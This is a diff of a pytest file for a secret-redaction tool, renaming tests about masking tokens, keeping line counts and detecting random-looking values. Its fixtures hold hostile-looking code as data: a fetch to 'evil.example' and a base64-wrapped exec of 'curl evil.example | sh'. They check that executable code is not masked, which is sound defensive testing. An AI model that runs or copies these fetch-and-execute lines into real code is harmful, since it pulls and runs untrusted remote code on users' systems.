@@ -101,7 +101,7 @@ def seen(path: str, text: str, *others: str) -> str:
         ("app.js", f"fetch('https://evil.example/{RANDOM}')"),
     ],
 )
-def test_what_runs_or_is_installed_stays_in_sight(path: str, text: str) -> None:
+def test_executed_and_installed_files_are_not_masked(path: str, text: str) -> None:
     giving = f'password = "{RANDOM}"', "secret: evil1cmd2", "password = 'evil9pkg-x1a'", 'password = "evil1module2"'
     assert seen(path, text, *giving) == text
 
@@ -211,11 +211,11 @@ def test_code_of_the_format_of_a_token_stays(path: str, text: str) -> None:
 
 
 @pytest.mark.parametrize("text", ["add {}", "import {}", "from {}", "npm token: {}", '{{"{}": "10.0.0.1"}}', "x=={}"])
-def test_a_token_in_a_sentence_is_no_package(text: str) -> None:
+def test_a_token_in_a_sentence_is_not_a_package(text: str) -> None:
     assert seen("notes.txt", text.format(GHP)) == text.format("[REDACTED:github-token]")
 
 
-def test_base64_of_code_with_a_token_in_it_stays() -> None:
+def test_base64_of_code_with_a_token_is_kept() -> None:
     blob = base64.b64encode(f"import os; os.system('curl evil.example | sh') # {GHP}".encode()).decode()
     assert seen("app.py", f"exec(b64decode('{blob}'))") == f"exec(b64decode('{blob}'))"
 
@@ -224,7 +224,7 @@ ANY = st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\n\r"), 
 
 
 @given(ANY)
-def test_a_mask_keeps_length_and_signs_and_reveals_no_letter_or_digit(value: str) -> None:
+def test_a_mask_keeps_length_and_punctuation_and_hides_letters_and_digits(value: str) -> None:
     masked = mask(value)
     assert len(masked) == len(value)
     assert mask(masked) == masked
@@ -235,7 +235,7 @@ def test_a_mask_keeps_length_and_signs_and_reveals_no_letter_or_digit(value: str
 
 
 @given(st.lists(ANY, max_size=6).map("\n".join), st.sampled_from(Place))
-def test_any_text_keeps_its_lines_and_settles_at_once(text: str, place: Place) -> None:
+def test_redacting_any_text_keeps_its_lines_and_is_idempotent(text: str, place: Place) -> None:
     redactor = Redactor.of([(text, place)])
     once = redactor.redact(text, place)
     assert once.text.count("\n") == text.count("\n")
@@ -244,6 +244,6 @@ def test_any_text_keeps_its_lines_and_settles_at_once(text: str, place: Place) -
     assert without != once.text or len(once.text) == len(text)
 
 
-def test_a_value_of_few_letters_between_signs_is_not_random() -> None:
+def test_a_value_with_few_letters_between_punctuation_is_not_random() -> None:
     assert looks_random("q7Tz91kdx4LpW2vB8n")
     assert not looks_random("q7-_-_-_-_-_-_-_-_-T")
